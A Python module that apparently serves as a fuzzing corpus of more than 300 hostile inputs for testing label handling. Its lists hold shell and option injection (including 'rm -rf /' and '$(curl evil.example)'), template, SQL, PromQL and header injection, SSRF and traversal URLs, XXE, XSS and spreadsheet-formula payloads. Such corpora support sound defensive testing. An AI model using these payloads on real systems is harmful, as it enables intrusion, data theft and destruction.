"""Hostile texts that a label may hold: more than 300, by what they try to be."""

from __future__ import annotations

_SHELL = [
    '; rm -rf /', '&& id', '|| id', '| tee /etc/passwd', '$(id)', '`id`', '${IFS}id', '$((1+1))', '> /tmp/x',
    '< /etc/passwd', '\nid\n', 'a;id', 'a&id&', "'; id #", '"; id #', '$(curl evil.example)', '{id,-u}', '*',
    '?', '[a-z]*', '~root', '!!', '\\$(id)', 'a\\', '$HOME', '${HOME}', '%PATH%', "$'\\x41'", '<(id)', '>(id)',
    'a\tb', 'a b c', "''", '""', '() { :;}; id', '/bin/sh -c id', '../../bin/sh', './x', '/etc/passwd',
    'file:///etc/passwd', '@/etc/passwd', 'x=1 id', '#comment',
]  # fmt: skip
_OPTIONS = [
    '-rf', '--help', '-v', '--', '-', '--output=/etc/passwd', '-oProxyCommand=id', '--exec=id', '-c id', '-e',
    '--eval=1', '-i/etc/shadow', '--config=/tmp/x', '--upload-pack=id', '-T/tmp', '--checkpoint-action=exec=id',
    '-1', '-0', '--=x', '-\n', '—help', '‐rf', '−1', '/help', '+x', '-Dx=y',
]  # fmt: skip
_TEMPLATES = [
    '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% print 1 %}', '{{config}}', "{{''.__class__.__mro__}}",
    '${{ labels.x }}', '${{ secrets }}', '{0}', '{name}', '{0.__class__}', '{x!r}', '%s', '%(x)s', '%n%n', '$x',
    '$1', '\\1', '${jndi:ldap://x}', '{{=1}}', '[[${1}]]', '@{1}', '{{.}}', '{{printf `%s`}}', '{', '}', '{{',
    '}}', '{}', '${env:HOME}', '${file:/etc/passwd}',
]  # fmt: skip
_SQL = [
    "' OR '1'='1", '1; DROP TABLE runs', '1 UNION SELECT 1', "'--", "'/*", '*/', "\\'", "1' AND SLEEP(5)#",
    "') OR 1=1--", '" OR ""="', "admin'--", '1 OR 1=1', '%', '_', "x' || 'y", '$$x$$', "E'\\x27'",
    '; SELECT pg_sleep(5)', '\\x27', "ª' or 1", '0x27', 'CHAR(39)', '1;SHUTDOWN', "' UNION ALL SELECT NULL--",
    '1/**/OR/**/1', '`x`', '[x]', 'x\\', "''''", "'; EXEC xp_cmdshell('id')",
]  # fmt: skip
_PROMQL = [
    '"} or vector(1) #', '"}', '" or ""="', "'} or vector(1)", '`} or 1', '.*', '.+', 'a|b', '(a', '[a',
    'a{1000000}', '\\d+', '^$', '{__name__=~".+"}', '}[5m]', 'offset 1y', '# comment', '\\', '\\"', '\\\\',
    '\\n', '\\u0022', '\\x22', 'a\\Eb', '\\Q', '$namespace', '$$', 'or on() vector(1)', 'x"} unless y{a="',
    'x\ny', 'label_replace(up,"a","b","c","d")', '))))', '((((', '@ end()', '1e999', 'NaN', '+Inf', '-Inf',
    '(?i)a', 'a$', '^a', '[[:alpha:]]', '\\pL', 'a.b+c*d?e|f(g)h[i]j{k}l^m$n',
]  # fmt: skip
_LINES = [
    'a\r\nX-Injected: 1', 'a\nX-Injected: 1', 'a\rX: 1', '\r\n\r\nGET / HTTP/1.1',
    'a\r\nContent-Length: 0\r\n\r\n', '%0d%0aX: 1', '%0a', '%0D', 'a\x0bb', 'a\x0cb', 'a\x85b', 'a\u2028b',
    'a\u2029b', 'HTTP/1.1 200 OK\r\n', 'a\r\n b', 'x\n\ny', '\x1b[2J', '\x08', '\x7f', '\x01\x02', '嘊嘍X: 1',
    '\u0a0d', 'a\r\nTransfer-Encoding: chunked', '\n', '\r', '\t', '\x0b',
]  # fmt: skip
_URLS = [
    'http://169.254.169.254/latest', '//evil.example', '///evil.example', '\\\\evil.example', '/\\evil.example',
    'https:evil.example', '@evil.example', 'user@evil.example', 'a@b:80', ':80', '#frag', '?q=1', '?', '&a=b',
    '=', ';x=y', '..', '../', '/../..', '..%2f', '%2e%2e/', '%2e%2e%2f', '%252e%252e%252f', '..;/', '..\\',
    '%5c', '%2f', '%00', '%', '%zz', '%u002e', '%c0%ae', '%ff', 'a//b', 'javascript:alert(1)',
    'gopher://127.0.0.1:6379/_x', 'http://[::1]', 'http://0x7f.1', 'http://2130706433', 'a/./b', './', '.',
    '/admin/delete', '*/x', 'x/*', '[a]', 'http://evil.example#@good', 'http://good@evil.example', '%20', '+',
    'a+b', '~', '/~root',
]  # fmt: skip
_UNICODE = [
    'ü', 'é', 'é', '\u202eabc', '\u200b', '\ufeffx', '\xa0', '\u3000', 'аdmin', '𝒶', '😀',
    '\U0001f469\u200d\U0001f469\u200d\U0001f467', 'İ', 'ß', 'ﬁ', '�', '\uffff', '\U0010ffff', '\ue000', '٠',
    '１２', '²', 'Ⅳ', '\u180e', '\u2060', 'à' * 50, '．．／', '／etc', '％２ｅ', 'ｏｒ', '＇', '＂', '；', 'ǅ', '\x00a',
    '\ud800', '\udfff', '\ud83d', 'a\udc80b', '\u061c', '\u2066x\u2069', 'ʼ', '‘', '＜script＞',
]  # fmt: skip
_NUL = [
    '\x00', 'a\x00', '\x00a', 'a\x00b', 'a\x00.png', '%00\x00', '\x00' * 10, 'prod\x00uction', 'a\x00-rf',
    '\\0', '\\x00',
]  # fmt: skip
_MARKUP = [
    '<script>alert(1)</script>', '<!--', ']]>', "<!ENTITY x SYSTEM 'file:///etc/passwd'>", '<?xml?>', '&lt;',
    '&#0;', '"><img src=x>', '{"a":1}', '{"$ne":null}', '[1,2]', 'null', 'true', 'NaN', '1e5', '0x10', '017',
    '1_000', '!!python/object:os.system', '&a *a', '- x', 'a: b', '*alias', '|', '>', "'", '"', '__proto__',
    'constructor', "=cmd|' /C calc'!A0", '-2+3', '@SUM(1)',
]  # fmt: skip
_SIZE = [
    "", " ", "a" * 64, "a" * 254, "a" * 1025, "a" * 5000, "-" * 300, "." * 300, "/" * 300, "%" * 300, "A" * 100_000,
    "0" * 5000, "9" * 30, "a." * 200, "\\" * 100, '"' * 100,
]  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [*_SHELL, *_OPTIONS, *_TEMPLATES, *_SQL, *_PROMQL, *_LINES, *_URLS, *_UNICODE, *_NUL, *_MARKUP, *_SIZE]
    )
)
